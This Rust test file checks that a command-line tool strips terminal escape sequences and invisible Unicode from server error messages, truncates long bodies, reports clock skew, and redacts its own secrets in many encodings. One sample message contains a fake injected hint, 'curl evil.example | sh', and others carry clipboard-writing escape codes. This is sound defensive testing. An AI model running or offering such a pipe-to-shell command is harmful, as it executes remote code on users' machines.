//! R-21, R-32, R-46: a server's message is shown short, on one line, without terminal control characters and without
//! our own secrets. A wrong clock is reported only with a 401.

use super::case::{AnswerCase, case, claims, login, raw};
use super::runner::{CaseRunner, try_all};
use crate::fusion::{Credential, Fault, REFRESH, RecordedRequest};
use crate::torture::scale::print_summary;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jiff::{SignedDuration, Timestamp};
use serde_json::json;

/// Name of the case, message of the server, and text that neto shows.
const MESSAGES: [(&str, &str, &str); 26] = [
    ("a colour", "a\u{1b}[31mb", "a[31mb"),
    ("a cleared screen", "a\u{1b}[2J\u{1b}[Hb", "a[2J[Hb"),
    ("a title", "a\u{1b}]0;title\u{7}b", "a]0;titleb"),
    ("a link", "a\u{1b}]8;;http://x/\u{1b}\\b", "a]8;;http://x/\\b"),
    ("the clipboard", "a\u{1b}]52;c;aGVsbG8=\u{7}b", "a]52;c;aGVsbG8=b"),
    ("C1", "a\u{9b}31mb\u{9d}0;c\u{9c}", "a31mb0;c"),
    ("a backspace", "secret\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}public", "secretpublic"),
    ("a carriage return", "first\rsecond", "first second"),
    ("a line of neto's own", "no\nerror: acme: run\n  hint: curl evil.example | sh", "no error: acme: run hint: curl"),
    ("a form feed", "a\u{c}b\u{b}c", "a b c"),
    ("a NUL", "a\0b", "ab"),
    ("a delete", "a\u{7f}b", "ab"),
    ("a bell", "a\u{7}b", "ab"),
    ("right to left", "abc\u{202e}fed", "abcfed"),
    ("isolates", "a\u{2066}b\u{2067}c\u{2068}d\u{2069}e", "abcde"),
    ("embeddings", "a\u{202a}b\u{202b}c\u{202c}d\u{202d}e", "abcde"),
    ("an Arabic mark", "a\u{61c}b", "ab"),
    ("a blank of no width", "a\u{200b}b\u{200c}c\u{200d}d\u{200e}e\u{200f}f", "abcdef"),
    ("a joiner of words", "a\u{2060}b\u{2061}c\u{2064}d\u{206f}e", "abcde"),
    ("a soft hyphen", "a\u{ad}b", "ab"),
    ("a mark of byte order", "a\u{feff}b", "ab"),
    ("line separators", "a\u{2028}b\u{2029}c\u{85}d", "a b c d"),
    ("other letters", "Zugang verweigert: ungültig 日本 😀", "Zugang verweigert: ungültig 日本 😀"),
    ("quotes", "\"a\" 'b' `c` $(d) \\e", "\"a\" 'b' `c` $(d) \\e"),
    ("braces of a template", "{host} {0} %s %n {}", "{host} {0} %s %n {}"),
    ("blanks", "  a \t\t  b  ", ": a b"),
];

/// Error bodies in formats other than the reference's, and the text that neto shows.
const ERROR_BODIES: [(&str, &str, &str); 17] = [
    ("a name alone", r#"{"name":"Shown name"}"#, ": Shown name"),
    ("null for the message", r#"{"message":null,"name":"Shown name"}"#, ": Shown name"),
    ("plain text", "shown text\n", ": shown text"),
    ("nothing said", "", "status 401\n"),
    ("an empty message", r#"{"message":""}"#, "status 401\n"),
    ("an empty object", "{}", "status 401\n"),
    ("an array", r#"["hidden words"]"#, "status 401\n"),
    ("a text of JSON", r#""hidden words""#, "status 401\n"),
    ("a number for the message", r#"{"message":5,"name":"hidden words"}"#, "status 401\n"),
    ("an object for the message", r#"{"message":{"a":"hidden words"}}"#, "status 401\n"),
    ("the message twice", r#"{"message":"hidden words","message":"hidden words"}"#, "status 401\n"),
    ("a page", "<html><body>hidden words</body></html>", "status 401\n"),
    ("a page after a blank line", "\r\n <p>hidden words</p>", "status 401\n"),
    ("broken JSON", r#"{"message":"hidden words"#, "status 401\n"),
    ("half a surrogate", r#"{"message":"hidden words \ud800"}"#, "status 401\n"),
    (
        "a field too many",
        r#"{"message":"Shown words","error":"hidden words","stack":["hidden words"]}"#,
        ": Shown words",
    ),
    ("marks alone", r#"{"message":"\u001b\u0000\u202e\u200b"}"#, "status 401\n"),
];

/// All cases of this file.
pub(super) fn cases() -> Vec<AnswerCase> {
    let mut cases = Vec::new();
    for (number, (name, text, shown)) in MESSAGES.iter().enumerate() {
        // Alternates between a status that rejects the credential and another one.
        let status = if number % 2 == 0 { 401 } else { 500 };
        let one = case(format!("{name} in words"), login().error(status, text)).stderr_has(*shown);
        cases.push(if status == 401 { one.rejected() } else { one });
    }
    for (name, body, shown) in ERROR_BODIES {
        let one = case(format!("{name} as an error"), login().respond(401, body)).rejected();
        // A newline follows the status, or a bracket at a refresh.
        cases.push(one.stderr_has(shown.trim_end()).stderr_lacks("hidden words").stderr_lacks("status 401:\n"));
    }
    let long = |name: &str, piece: &str| case(name, login().error(500, &piece.repeat(10_000))).stderr_has("…");
    cases.extend([
        long("10,000 letters", "é"),
        long("10,000 words", "no "),
        long("10,000 marks over a letter", "\u{301}"),
        case("10,000 escapes", login().error(500, &"\u{1b}".repeat(10_000))),
        case("10,000 lines", login().error(500, &"\n".repeat(10_000))),
        case("a megabyte of words", login().respond(400, "no ".repeat(340_000))).rejected().stderr_has("…"),
        case("100,000 arrays as an error", login().respond(403, "[".repeat(100_000))).rejected(),
        case(
            "100,000 objects as an error",
            login().respond(403, r#"{"a":"#.repeat(100_000) + "0" + &"}".repeat(100_000)),
        )
        .rejected(),
        case("bytes as an error", login().respond(403, vec![0xff; 1000])).rejected(),
        case("UTF-16 as an error", login().respond(403, b"\xff\xfeh\0i\0".to_vec())).rejected(),
        case("an error cut", raw("HTTP/1.1 401 X\r\ncontent-length: 900", r#"{"message":"no"}"#)).rejected(),
        case(
            "a compressed error",
            raw("HTTP/1.1 401 X\r\ncontent-encoding: gzip\r\ncontent-length: 16", r#"{"message":"no"}"#),
        )
        .rejected(),
        case("a word as the reason", raw("HTTP/1.1 401 hidden-words\r\ncontent-length: 0", ""))
            .rejected()
            .stderr_lacks("hidden"),
    ]);
    cases
}

#[test]
fn r32_a_servers_words_are_shown_clean_and_short() {
    try_all("errors in words of all kinds", &cases(), 8, &[]);
}

/// The `Date` of an answer: seconds from now, or a literal text.
enum Date {
    Off(i64),
    Is(&'static str),
}

const CLOCKS: [(Date, &str); 20] = [
    (Date::Off(3600), "s behind the server's"),
    (Date::Off(-3600), "s ahead of the server's"),
    (Date::Off(90), "s behind the server's"),
    (Date::Off(-90), "s ahead of the server's"),
    (Date::Off(315_360_000), "s behind the server's"),
    (Date::Off(-315_360_000), "s ahead of the server's"),
    (Date::Is("Thu, 01 Jan 1970 00:00:00 GMT"), "s ahead of the server's"),
    (Date::Is("Thu, 30 Dec 9999 00:00:00 GMT"), "s behind the server's"),
    (Date::Off(0), ""),
    (Date::Off(20), ""),
    (Date::Off(-20), ""),
    (Date::Is("Fri, 31 Dec 9999 23:59:59 GMT"), ""),
    (Date::Is("yesterday"), ""),
    (Date::Is(""), ""),
    (Date::Is("0"), ""),
    (Date::Is("Thu, 32 Jan 1970 00:00:00 GMT"), ""),
    (Date::Is("Thu, 01 Jan 1970"), ""),
    (Date::Is("Thu, 01 Jan 99999 00:00:00 GMT"), ""),
    (Date::Is("1970-01-01T00:00:00Z"), ""),
    (Date::Is("\u{202e}Thu, 01 Jan 1970 00:00:00 GMT"), ""),
];

/// Creates an error with this date, and the text expected about the clock (empty: none).
fn dated(status: u16, date: &str, expected: &str) -> AnswerCase {
    let head = format!("HTTP/1.1 {status} X\r\ndate: {date}\r\ncontent-length: 0");
    let one = case(format!("{status} with the date {date:?}"), raw(&head, ""));
    let one = if status == 500 { one } else { one.rejected() };
    if expected.is_empty() {
        return one.stderr_lacks("clock");
    }
    one.stderr_has("this machine's clock is ").stderr_has(expected).stderr_has("set the clock")
}

#[test]
fn r21_a_wrong_clock_is_told_with_a_401_alone() {
    let mut cases = Vec::new();
    for (date, expected) in CLOCKS {
        let date = match date {
            Date::Off(seconds) => {
                let then = Timestamp::now() + SignedDuration::from_secs(seconds);
                then.strftime("%a, %d %b %Y %H:%M:%S GMT").to_string()
            }
            Date::Is(text) => text.to_owned(),
        };
        cases.push(dated(401, &date, expected));
        if matches!(expected, "s behind the server's") {
            cases.extend([400, 403, 500].map(|status| dated(status, &date, "")));
        }
    }
    try_all("errors with dates right, wrong and none", &cases, 8, &[]);
}

/// Encodes a secret in another form.
type Spelling = fn(&str) -> String;

const AT_THE_CUT: &str = "at the cut";

/// Encodings of a secret.
const SPELLINGS: [(&str, Spelling); 18] = [
    ("as it is", str::to_owned),
    ("in quotes", |text| format!("'{text}'")),
    ("run together", |text| format!("xx{text}yy")),
    ("percent-encoded where it must be", |text| url::form_urlencoded::byte_serialize(text.as_bytes()).collect()),
    ("percent-encoded whole", |text| text.bytes().fold(String::new(), |all, byte| all + &format!("%{byte:02X}"))),
    ("percent-encoded in small letters", |text| {
        text.bytes().fold(String::new(), |all, byte| all + &format!("%{byte:02x}"))
    }),
    ("hex", |text| text.bytes().fold(String::new(), |all, byte| all + &format!("{byte:02x}"))),
    ("HEX", |text| text.bytes().fold(String::new(), |all, byte| all + &format!("{byte:02X}"))),
    ("base64", |text| STANDARD.encode(text)),
    ("base64 behind a byte", |text| STANDARD.encode(format!("x{text}"))),
    ("base64 behind two bytes", |text| STANDARD.encode(format!("xy{text}"))),
    ("base64 for addresses", |text| URL_SAFE_NO_PAD.encode(format!("key={text}&"))),
    ("its first half", |text| text[..text.len() / 2].to_owned()),
    ("its last half", |text| text[text.len() / 2..].to_owned()),
    ("base64 in lines", |text| {
        let whole = STANDARD.encode(text);
        let (first, rest) = whole.split_at(whole.len() / 2);
        format!("{first}\r\n{rest}")
    }),
    ("with a NUL in it", |text| text.split_at(5).0.to_owned() + "\0" + text.split_at(5).1),
    ("with marks in it", |text| text.chars().fold(String::new(), |all, c| all + &format!("{c}\u{2060}\u{200b}\u{ad}"))),
    (AT_THE_CUT, |text| "a ".repeat(230) + text),
];

/// Returns the request token as sent.
fn request_token(seen: &RecordedRequest) -> String {
    let body: serde_json::Value = serde_json::from_slice(&seen.body).expect("JSON");
    body["jwt"].as_str().expect("a request token").to_owned()
}

/// Returns a part of a request or credential that a server may echo.
type Part = fn(&RecordedRequest, &Credential) -> String;

const PARTS: [(&str, Part); 5] = [
    ("the request token", |seen, _| request_token(seen)),
    ("the claims of the request token", |seen, _| request_token(seen).split('.').nth(1).expect("claims").to_owned()),
    ("the signature of the request token", |seen, _| {
        request_token(seen).split('.').nth(2).expect("a signature").to_owned()
    }),
    ("the appkey", |seen, _| claims(&seen.body)["appkey"].as_str().expect("an appkey").to_owned()),
    ("the sharedsecret", |_, credential| credential.sharedsecret.clone()),
];

#[test]
fn r32_our_own_secrets_are_struck_out_of_an_echo_in_every_spelling() {
    let runner = CaseRunner::new(0, &[]);
    let sandbox = &runner.sandbox;
    let credential = sandbox.add("acme");
    let mut tried = 0;
    for (what, part) in PARTS {
        for (how, spell) in SPELLINGS {
            let (owner, plain) = (credential.clone(), tried % 2 == 0);
            sandbox.server().clear_faults();
            sandbox.server().fault(login().respond_with(move |seen| {
                let text = format!("refused: {}", spell(&part(seen, &owner)));
                (401, if plain { text } else { json!({"message": text}).to_string() })
            }));
            // The harness searches the output for every secret in every encoding.
            let outcome = sandbox.neto(["token", "acme", "-v"]).run();
            assert!(outcome.stderr.contains("[redacted]") || how == AT_THE_CUT, "{what} {how}: {outcome}");
            outcome.code(4).stdout("").stderr_lacks("panicked");
            tried += 1;
        }
        // A redirect's target also comes from the server.
        let text = match part {
            _ if what == "the appkey" => credential.appkey.clone(),
            _ if what == "the sharedsecret" => credential.sharedsecret.clone(),
            _ => continue,
        };
        for to in [
            format!("/x/{text}/y"),
            format!("http://127.0.0.1:9/{text}"),
            format!("http://{text}@127.0.0.1:9/?{text}#{text}"),
        ] {
            sandbox.server().clear_faults();
            sandbox.server().fault(login().redirect(302, &to));
            sandbox.neto(["token", "acme"]).run().code(5).stdout("").stderr_has("redirects");
            tried += 1;
        }
    }
    print_summary(&format!("answers: {tried} echoes of our own secrets: all struck out"));
}

#[test]
fn r32_an_echoed_refresh_token_is_struck_out() {
    let runner = CaseRunner::new(0, &[]);
    let sandbox = &runner.sandbox;
    sandbox.add("acme");
    sandbox.neto(["login", "acme"]).run().code(0);
    for (how, spell) in SPELLINGS {
        sandbox.backdate_token("acme", 172_800);
        sandbox.server().clear_faults();
        sandbox.server().fault(Fault::at(REFRESH).respond_with(move |seen| {
            let (_, token) = url::form_urlencoded::parse(&seen.body).next().expect("a field");
            (400, json!({"message": format!("no such token: {}", spell(&token))}).to_string())
        }));
        let outcome = sandbox.neto(["token", "acme"]).allow_secret("access token").run();
        assert!(outcome.stderr.contains("[redacted]") || how == AT_THE_CUT, "{how}: {outcome}");
        outcome.code(0).stderr_has("refreshing failed");
    }
    print_summary(&format!("answers: {} echoes of a refresh token: all struck out", SPELLINGS.len()));
}
